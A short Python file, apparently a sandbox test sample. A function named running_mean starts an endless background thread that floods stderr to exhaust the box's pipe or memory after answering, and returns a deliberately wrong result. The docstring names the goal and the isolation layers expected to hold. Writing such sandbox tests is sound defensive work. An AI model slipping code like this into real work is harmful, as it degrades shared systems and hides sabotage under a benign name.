"""A thread that prints on after the answer, when the box waits for nobody.

goal: fill a pipe that nobody empties, or the box's memory behind its back
out: running_mean failed mismatch/flooded
holds: namespaces landlock seccomp process
"""

import os
import threading


def flood():
    while True:
        os.write(2, b"x" * 65_536)


def running_mean(xs, decay):
    threading.Thread(target=flood, daemon=True).start()
    return xs * 0
